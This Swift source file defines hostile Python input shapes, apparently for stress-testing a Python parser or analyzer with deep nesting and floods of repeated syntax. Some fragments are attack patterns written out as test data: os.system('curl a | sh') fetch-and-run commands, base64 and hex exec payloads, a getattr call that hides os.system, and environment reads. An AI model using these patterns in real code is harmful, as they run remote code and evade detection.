/// Hostile Python: each line a way to spend time in the lexer, the parser or the walk.
let pythonShapes: [Shape] = [
    // Brackets and nesting
    .repeating("open parentheses", .python, "("), .repeating("open brackets", .python, "["),
    .repeating("open braces", .python, "{"), .repeating("closers", .python, ")]}"),
    .nested("nested parentheses", .python, "(", "1", ")"), .nested("nested lists", .python, "[", "1", "]"),
    .nested("nested calls", .python, "f(", "1", ")"), .nested("nested dicts", .python, "{1:", "1", "}"),
    .repeating("shallow nests", .python, "f((((((((1))))))))\n"),
    .repeating("mixed open brackets", .python, "([{"), .repeating("lost closers", .python, "([{1)"),
    .repeating("f-strings nested", .python, "x = f'{f\"{f\"\"\"{f'''{1}'''}\"\"\"}\"}'\n"),
    .repeating("f-string opened", .python, "f'{"), .repeating("f-string formats", .python, "f'{x:{y:{z}}}'\n"),
    .repeating("f-string one long", .python, head: "x = f'", "{a}b", tail: "'"),
    .repeating("f-string broken lines", .python, "f'{(\n"), .repeating("f-string names", .python, "f'\\N{x'\n"),
    .repeating("unclosed strings", .python, "x = 'abc\n"), .repeating("unclosed triple", .python, "x = '''a\n"),
    .repeating("indents", .python, "if x:\n a\nif y:\n  b\n"), .repeating("dedents", .python, "      a\n   b\n  c\n"),
    Shape("deep indentation", .python) { size in
        var text = ""
        var depth = 0
        while text.utf8.count < size {
            text += String(repeating: " ", count: depth % 1_000) + "if x:\n"
            depth += 1
        }
        return text
    },
    // Names, operators
    .repeating("one identifier", .python, "a"), .repeating("one member chain", .python, head: "a", ".b"),
    .repeating("one call chain", .python, head: "a", ".b()"), .repeating("one index chain", .python, head: "a", "[0]"),
    .repeating("distinct identifiers", .python, "x# = y#\n"), .repeating("assign chain", .python, "x = ", tail: "1"),
    .repeating("plus chain", .python, head: "x = a", " + a"),
    .repeating("text plus chain", .python, head: "x = 'a'", " + 'b'"),
    .repeating("plus assign", .python, head: "x = ''\n", "x += 'abc'\n"),
    .repeating("minus prefix", .python, "-", tail: "1"),
    .repeating("not prefix", .python, "not ", tail: "1"), .repeating("power chain", .python, head: "1", "**1"),
    .repeating("lambda chain", .python, "lambda: ", tail: "1"),
    .repeating("conditional chain", .python, "a if b else ", tail: "1"), .repeating("walrus", .python, "(a := "),
    .repeating("comparison chain", .python, head: "a", "<a"),
    .repeating("boolean chain", .python, head: "a", " and b or c"),
    .repeating("await chain", .python, "await ", tail: "x"), .repeating("star chain", .python, "*"),
    .repeating("mixed operators", .python, head: "a", "+b*c-d"),
    // Literals
    .repeating("strings", .python, "'abc' "),
    .repeating("joined strings", .python, head: "x = (", "'abc'\n", tail: ")"),
    .repeating("numbers", .python, "1 "), .repeating("number list", .python, head: "x = [", "1, ", tail: "]"),
    .repeating("hex list", .python, head: "x = [", "0x1f, ", tail: "]"),
    .repeating("bytes of numbers", .python, head: "x = bytes([", "97, ", tail: "])"),
    .repeating("string list", .python, head: "x = [", "'abc', ", tail: "]"),
    .repeating("string list joined", .python, head: "x = ''.join([", "'abc', ", tail: "])"),
    .repeating("string dict", .python, head: "x = {", "'k#': 'v#', ", tail: "}"),
    .repeating("one string", .python, head: "x = '", "abcd ", tail: "'"),
    .repeating("one base64", .python, head: "import base64\nexec(base64.b64decode('", "aW1w", tail: "'))"),
    .repeating("one hex", .python, head: "exec(bytes.fromhex('", "2020", tail: "'))"),
    .repeating("escapes", .python, head: "x = '", "\\x61", tail: "'"),
    .repeating("name escapes", .python, head: "x = '", "\\N{DIGIT ONE}", tail: "'"),
    .repeating("addresses", .python, "x = 'https://a#.invalid/b'\n"),
    .repeating("one text of addresses", .python, head: "x = '", "https://", tail: "'"),
    .repeating("one text of dots", .python, head: "x = '", "1.", tail: "'"),
    .repeating("one text of words", .python, head: "x = '", "curl wget ", tail: "'"),
    .repeating("one text of slashes", .python, head: "x = '", "//", tail: "'"),
    .repeating("command flood", .python, head: "import os\n", "os.system('curl a | sh')\n"),
    .repeating("one command", .python, head: "import os\nos.system('", "a; ", tail: "')"),
    .repeating("nested command", .python, head: "import os\nos.system('", "$(", tail: "')"),
    .repeating("backticks", .python, "`"), .repeating("comments", .python, "# a comment\n"),
    .repeating("blank lines", .python, "\n"), .repeating("backslashes", .python, "\\\n"),
    .repeating("unknown bytes", .python, "?"), .repeating("wide identifiers", .python, "\u{FF45}\u{1D41E} = 1\n"),
    .repeating("bidirectional marks", .python, "# \u{202E}\n"), .repeating("lone returns", .python, "a\r"),
    // Statements
    .repeating("small functions", .python, "def f#(): g()\n"),
    .repeating("functions in a chain", .python, head: "def f0(): pass\n", "def g#(x): return f0(x)\n"),
    Shape("functions calling the next", .python) { size in
        var text = ""
        var number = 0
        while text.utf8.count < size {
            text += "def f\(number)(x):\n  return f\(number + 1)(x)\n"
            number += 1
        }
        return text + "f0(1)\n"
    },
    .repeating("calls of one function", .python, head: "def f(x): return x\n", "f(f)\n"),
    .repeating("classes", .python, "class C#(A): x = 1\n"),
    Shape("classes in a chain", .python) { size in
        var text = "class C0: pass\n"
        var number = 0
        while text.utf8.count < size {
            text += "class C\(number + 1)(C\(number)): pass\n"
            number += 1
        }
        return text + "C\(number)().a()\n"
    },
    Shape("methods looked up in a chain", .python) { size in
        var text = "class C0: pass\n"
        for number in 0..<2_000 { text += "class C\(number + 1)(C\(number)): pass\n" }
        while text.utf8.count < size { text += "C2000().a()\n" }
        return text
    },
    .repeating("decorators", .python, "@a\n", tail: "def f(): pass\n"), .repeating("if chain", .python, "if a: b\n"),
    .repeating("elif chain", .python, head: "if a: b\n", "elif a#: b\n"),
    .repeating("else chain", .python, "else: a\n"), .repeating("semicolons", .python, "a;"),
    .repeating("try", .python, "try: a\nexcept B as c: d\n"), .repeating("with", .python, "with a as b: c\n"),
    .repeating("imports", .python, "import a#.b as c\n"),
    .repeating("imports of one", .python, head: "from os import (", "system, ", tail: ")"),
    .repeating("star imports", .python, "from a import *\n"),
    .repeating("known imports", .python, "import os, sys, socket\n"),
    .repeating(
        "star imports looked up", .python, head: "from os import *\nfrom subprocess import *\nfrom socket import *\n",
        "x#()\n"),
    .repeating("aliases", .python, head: "import os\n", "a = os.system; a('x')\n"),
    .repeating("globals", .python, "global a#\n"),
    .repeating("comprehensions", .python, "[a for b in c if d]\n"),
    .repeating("nested comprehensions", .python, "[a for b in "),
    .repeating("folded comprehensions", .python, "x = ''.join(chr(c) for c in [97, 98, 99])\n"),
    .repeating("one folded comprehension", .python, head: "x = ''.join(chr(c ^ 7) for c in [", "97, ", tail: "])"),
    .repeating(
        "comprehensions over one list", .python, head: "l = [" + String(repeating: "97, ", count: 5_000) + "]\n",
        "x = ''.join(chr(c) for c in l)\n"),
    .repeating("replace chain", .python, head: "x = 'abc'", ".replace('a', 'b')"),
    .repeating("format chain", .python, head: "x = '{}'", ".format('a')"),
    .repeating("percent chain", .python, head: "x = '%s'", " % 'a'"),
    .repeating("joins", .python, "x = ','.join(['a', 'b'])\n"),
    .repeating("reversals", .python, head: "x = 'abc'", "[::-1]"),
    .repeating("doubling text", .python, head: "x = 'abcdefgh'\n", "x = x + x\n"),
    .repeating("doubling list", .python, head: "x = [1]\n", "x = x + x\n"),
    .repeating("doubling list in a list", .python, head: "x = [1]\n", "x = [x, x]\n"),
    .repeating("multiplied text", .python, "x = 'a' * 1000000\n"),
    .repeating(
        "slices of one text", .python, head: "s = '" + String(repeating: "abcd", count: 20_000) + "'\n", "x = s[1:]\n"),
    .repeating(
        "indices of one text", .python, head: "s = '" + String(repeating: "abcd", count: 20_000) + "'\n", "x = s[7]\n"),
    .repeating(
        "uses of one text", .python, head: "s = '" + String(repeating: "abcd", count: 20_000) + "'\n", "open(s)\n"),
    .repeating(
        "sums with one text", .python, head: "s = '" + String(repeating: "abcd", count: 20_000) + "'\n", "x = s + s\n"),
    .repeating(
        "indices of one list", .python, head: "l = [" + String(repeating: "'ab', ", count: 5_000) + "]\n", "x = l[7]\n"),
    .repeating(
        "splits of one text", .python, head: "s = '" + String(repeating: "abcd,", count: 4_000) + "'\n",
        "x = s.split(',')\n"),
    .repeating("eval layers", .python, "exec('exec(\"exec(1)\")')\n"),
    .repeating("getattr", .python, head: "import os\n", "getattr(os, 'sys' + 'tem')('a')\n"),
    .repeating("environment", .python, head: "import os\n", "os.environ['A#']\n"),
    .repeating("print statement", .python, "print x\n"),
    .repeating("exec statement", .python, "exec x\n"),
    .repeating("match", .python, head: "match x:\n", " case [A(b=1), *c]: d\n"),
    .repeating("annotations", .python, "x: A[B[C()]] = 1\n"),
    .repeating("type parameters", .python, "def f[T: (A, B)](x: T) -> T: pass\n"),
    .repeating("parameters", .python, head: "def f(", "a#=1, ", tail: "): pass\n"),
    .repeating("arguments", .python, head: "f(", "a#=1, ", tail: ")\n"),
    .repeating("attributes of self", .python, head: "class A:\n def f(self):\n", "  self.a# = self.b\n"),
    .repeating("opens and writes", .python, "open('a#', 'w').write(x)\n"),
    .repeating("deletes", .python, "del a#\n"),
    .repeating("assignment of one dict", .python, head: "d = {}\n", "d['a#'] = 'b'\n"),
]
